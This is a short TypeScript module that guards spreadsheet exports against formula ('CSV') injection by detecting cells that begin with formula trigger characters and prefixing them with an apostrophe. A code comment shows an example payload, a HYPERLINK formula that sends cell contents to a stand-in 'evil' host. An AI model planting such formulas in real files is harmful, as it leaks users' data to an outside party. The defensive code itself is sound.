// Formula injection ("CSV injection"): a spreadsheet program runs a cell that starts with one of
// these characters as a formula when it opens a CSV file or when a person edits the cell, so a
// note like `=HYPERLINK("http://evil/?"&A1)` written by one party would run on the other's
// machine. OWASP's advice, followed here: prefix such text with an apostrophe.
const formulaTriggers = new Set(['=', '+', '-', '@', '\t', '\r']);

export function isFormulaLike(value: string): boolean {
  return formulaTriggers.has(value.charAt(0));
}

/** The text to write into a cell so that no spreadsheet program reads it as a formula. */
export function neutraliseCell(value: string): string {
  return isFormulaLike(value) ? `'${value}` : value;
}

/** Undoes neutraliseCell on import, so an exported file uploads back to the same report. */
export function restoreCell(value: string): string {
  return value.startsWith("'") && isFormulaLike(value.slice(1)) ? value.slice(1) : value;
}
